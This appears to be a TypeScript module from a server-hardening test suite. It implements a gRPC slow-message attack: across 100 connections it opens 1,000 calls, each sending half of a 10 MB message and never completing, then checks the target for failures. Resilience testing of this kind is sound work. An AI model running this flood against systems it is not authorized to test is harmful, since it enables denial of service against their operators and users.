import { setTimeout } from "node:timers/promises";
import type { AttackReport, AttackTarget } from "./attack.ts";
import {
  encodeGrpcMessagePrefix,
  findGrpcVictimProblems,
  GrpcAttackConnection,
} from "./grpc-attack-client.ts";

const CONNECTIONS = 100;
const CALLS_PER_CONNECTION = 10;
const MESSAGE_BYTES = 10 * 1024 * 1024;

/** Sends the first half of a large message in each of 1,000 calls, which never end. */
export async function sendHalfGrpcMessages(
  target: AttackTarget,
  authorization?: string,
): Promise<AttackReport> {
  const half = Buffer.concat([encodeGrpcMessagePrefix(MESSAGE_BYTES), Buffer.alloc(MESSAGE_BYTES / 2, "x")]);
  let refusedCalls = 0;
  const options = authorization === undefined ? {} : { authorization };
  const connections = await Promise.all(
    Array.from({ length: CONNECTIONS }, () => GrpcAttackConnection.open(target, options)),
  );
  for (const connection of connections) {
    for (let call = 0; call < CALLS_PER_CONNECTION; call++) {
      const stream = connection.startCall("SendMessage");
      stream?.on("response", () => refusedCalls++);
      stream?.write(half);
    }
  }
  const problems: string[] = [];
  for (let round = 0; round < 8; round++) {
    await setTimeout(500, undefined, { signal: target.signal });
    problems.push(...(await findGrpcVictimProblems(target)));
  }
  return { figures: { refusedCalls }, problems };
}
